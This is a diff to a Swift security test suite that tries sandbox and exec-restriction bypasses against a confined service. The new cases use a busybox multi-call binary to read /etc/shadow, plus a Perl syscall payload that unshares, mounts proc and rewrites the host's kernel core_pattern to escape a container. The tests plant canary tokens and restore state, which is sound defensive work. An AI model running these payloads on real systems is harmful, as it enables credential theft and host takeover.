@@ -5,7 +5,7 @@ import Foundation
 struct ExecBypasses {
     let code: ServiceCode
 
-    var all: [Bypass] { programs + contents + interpreters + memory + lineage }
+    var all: [Bypass] { programs + contents + roundabout + interpreters + memory + lineage }
 
     private var programs: [Bypass] {
         [
@@ -95,27 +95,69 @@ struct ExecBypasses {
         ]
     }
 
-    /// A program that the service runs, whose profile names its content.
-    static let tool = "/srv/tool"
-    static let runsTool = #"captured("", sub { exec "/srv/tool"; "error $!" })"#
-
     private var contents: [Bypass] {
-        [
+        let (tool, runsTool) = (OrdinaryWork.tool, OrdinaryWork.runsTool)
+        return [
             code.executes(
-                "E2", "overwritten", "a program whose file was overwritten", plant: Self.tool,
-                Self.runsTool),
+                "E2", "overwritten", "a program whose file was overwritten", plant: tool, runsTool),
             Bypass(
                 "E2",
                 Attack("renamed-over", .exec, "another program renamed to its path") {
                     [code] target in
                     let token = Canary.token()
-                    try target.plantProgram(Self.tool + ".new", printing: token)
+                    try target.plantProgram(tool + ".new", printing: token)
                     let view = try InsideView(target.container)
-                    try view.move(Self.tool + ".new", to: Self.tool)
-                    defer { view.remove(Self.tool) }
+                    try view.move(tool + ".new", to: tool)
+                    defer { view.remove(tool) }
                     return .byText(
-                        try code.run(Self.runsTool, in: target), has: token,
+                        try code.run(runsTool, in: target), has: token,
                         what: "the program printed the token")
+                }),
+        ]
+    }
+
+    /// E6 and E16: a program that is many, and programs that the kernel itself starts.
+    private var roundabout: [Bypass] {
+        let multiCall = OrdinaryWork.multiCall
+        return [
+            code.reads(
+                "E6", "multi-call-argument", "another applet of an allowed busybox, by argument",
+                #"captured("", sub { exec "\#(multiCall)", "cat", "/etc/shadow"; "error $!" })"#),
+            Bypass(
+                "E6",
+                Attack("multi-call-link", .file, "another applet of an allowed busybox, by a link")
+                {
+                    [code] target in
+                    let view = try InsideView(target.container)
+                    view.remove("/srv/cat")
+                    try view.link("/srv/cat", to: multiCall)
+                    defer { view.remove("/srv/cat") }
+                    let reply = try code.run(
+                        #"captured("", sub { exec "/srv/cat", "/etc/shadow"; "error $!" })"#,
+                        in: target)
+                    return .byText(reply, has: target.canary.secret, what: "the secret was shown")
+                }),
+            Bypass(
+                "E16",
+                Attack("core-pattern", .file, "what the kernel does with a crash") {
+                    [code] target in
+                    let setting = "/proc/sys/kernel/core_pattern"
+                    let before = try String(contentsOfFile: setting, encoding: .utf8)
+                    // Not atomically: it is no file that could be replaced.
+                    defer { try? before.write(toFile: setting, atomically: false, encoding: .utf8) }
+                    let token = Canary.token()
+                    let reply = try code.run(
+                        #"""
+                        syscall(272, 0x20000) == 0 or return "error unshare $!";
+                        my ($none, $type, $at, $root) = ("none", "proc", "/run", "/");
+                        syscall(165, $none, $root, $none, 0x44000, 0);
+                        syscall(165, $none, $at, $type, 0, 0) == 0 or return "error mount $!";
+                        open(my $out, ">", "/run/sys/kernel/core_pattern") or return "error $!";
+                        syswrite($out, "core.\#(token)") ? "written" : "error write $!"
+                        """#, in: target)
+                    let after = try String(contentsOfFile: setting, encoding: .utf8)
+                    return .byText(
+                        after + reply, has: token, what: "the host's core_pattern was changed")
                 }),
         ]
     }
